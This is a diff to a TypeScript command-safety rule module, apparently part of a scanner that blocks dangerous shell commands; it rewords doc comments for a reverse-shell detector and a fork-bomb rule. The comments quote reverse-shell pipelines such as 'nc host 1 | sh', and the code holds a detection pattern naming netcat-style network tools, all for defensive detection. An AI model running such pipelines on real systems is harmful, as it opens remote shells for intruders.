@@ -2,7 +2,7 @@ import type { CommandFact } from "../../core/facts.ts";
 import { isPseudoNetwork } from "../path-classes.ts";
 import { argumentValues, nameSet, nameSpan, names, operands, type Rule, type RuleContext } from "../rule.ts";
 
-/** `nc host 1 | sh`, `cat pipe | sh -i | nc host 1 > pipe`: a shell at one end, the network at the other. */
+/** Reports whether a pipeline connects a shell to the network, such as `nc host 1 | sh`. */
 function feedsShell(fact: CommandFact, scene: RuleContext): boolean {
   const wire =
     names(fact).some((name) => /^(?:nc|ncat|netcat|nc\.\w+|telnet|socat|cryptcat|sbd)$/.test(name)) ||
@@ -133,7 +133,7 @@ export const containerEscape: Rule = {
   ],
 };
 
-/** A self-call that does not wait for itself doubles with every round. */
+/** A function that calls itself without waiting doubles the number of processes with each call. */
 export const forkBomb: Rule = {
   id: "fork-bomb",
   tier: "blocked",
